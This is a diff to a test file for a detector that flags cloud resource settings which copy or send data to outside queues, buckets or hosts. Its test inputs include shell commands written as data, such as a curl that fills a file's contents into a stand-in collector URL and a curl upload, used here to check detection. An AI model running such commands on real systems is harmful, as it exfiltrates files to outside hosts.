@@ -34,6 +34,26 @@ test("the words say what becomes of the data, and one place is one mention", () 
   expect(mentions({ env: { A: abroad, REGION: "us-east-1", EXPORT: abroad } })).toEqual([
     ["sqs.us-east-1.amazonaws.com", "copy", "content"],
   ]);
+  expect(mentions({ env: { LOG_ARCHIVE: abroad, A: abroad } })).toEqual([
+    ["sqs.us-east-1.amazonaws.com", "copy", "content"],
+  ]);
+  expect(mentions({ logs: abroad })).toEqual([["sqs.us-east-1.amazonaws.com", "copy", "logs"]]);
+  expect(mentions({ env: { X: `${abroad}/log` } })).toEqual([["sqs.us-east-1.amazonaws.com", "copy", "logs"]]);
+});
+
+test("a place that one word only names, and another knows what lies there, is one where something lies", () => {
+  const outbox = resource("outbox", { provider: { region: "us-east-1" }, inputs: { bucket: "outbox" } });
+  const node = resource("one", { type: runs.type, inputs: { env: { A: abroad, B: "s3://outbox/in" } } });
+  const estate = buildMadeUp([outbox, node], madeUpFacts([runs]));
+  const one = estate.byUrn.get("urn:one");
+  expect(one && mentionsOf(one, estate)).toMatchObject([{ held: true }]);
+});
+
+test("a component does nothing itself", () => {
+  const estate = buildMadeUp([
+    resource("one", { type: "my:own:Thing", custom: false, inputs: { env: { X: abroad } } }),
+  ]);
+  expect([...estate.byUrn.values()].flatMap((node) => mentionsOf(node, estate))).toEqual([]);
 });
 
 test.each<[string, Inputs]>([
@@ -46,6 +66,15 @@ test.each<[string, Inputs]>([
   ["what is only fetched", { script: "curl -O https://collector.example/a.tgz" }],
   ["an image that is pulled", { env: { X: "https://1.dkr.ecr.us-east-1.amazonaws.com/x" } }],
   ["where people's browsers are sent", { env: { CALLBACK_URL: "https://shop.example/x" } }],
+  ["words under a harmless key", { settings: { description: [abroad, "x"] } }],
+  ["an ARN of a harmless service of Alibaba Cloud", { env: { X: "acs:acm:cn-hangzhou:1:certificate/x" } }],
+  ["a bucket of Alibaba Cloud anybody may read", { env: { X: "acs:oss:*:*:public-agents/x" } }],
+  ["a bucket anybody may read, by its address", { env: { X: "https://public-agents.s3.us-east-1.amazonaws.com/x" } }],
+  ["an image of Alibaba Cloud", { env: { X: "registry.cn-hangzhou.aliyuncs.com/acme/x:1" } }],
+  ["where people's browsers are sent, by a property", { callbackUrl: "https://shop.example/x" }],
+  ["by a name beside it", { env: [{ name: "CALLBACK_URL", value: "https://shop.example/x" }] }],
+  ["by a host like one of a cloud", { env: { CALLBACK_URL: "https://sqs.amazonaws.com.shop.example/x" } }],
+  ["by a host that begins with a digit", { env: { CALLBACK_URL: "https://1shop.example/x" } }],
   ["a bucket anybody may read", { script: "aws s3 cp s3://public-agents/x ." }],
 ])("harmless: %s", (_, inputs) => {
   expect(mentions(inputs)).toEqual([]);
@@ -73,6 +102,10 @@ test.each<[string, Inputs]>([
   ["a variable that somebody called like a harmless key", { environment: { variables: { DESCRIPTION: abroad } } }],
   ["an address in digits, whole or with a port", { env: { X: "203.0.113.9" } }],
   ["one with a port", { env: { X: "203.0.113.9:5432" } }],
+  ["nothing under a harmless key", { settings: { description: null, X: abroad } }],
+  ["a word and more under a harmless key", { settings: { description: { a: "x", more: { X: abroad } } } }],
+  ["a bucket of somebody else, by its address", { env: { X: "https://people.s3.us-east-1.amazonaws.com/x" } }],
+  ["a number under a key of browsers", { env: { CALLBACK_URL: "https://203.0.113.9/x" } }],
   ["what is sent to a host that only gives out", { script: "curl -T x https://packages.example/a" }],
   ["what is filled into an address", { script: "curl https://collector.example/?q=$(cat x)" }],
   ["an image that is pushed", { script: "docker push 1.dkr.ecr.us-east-1.amazonaws.com/x" }],
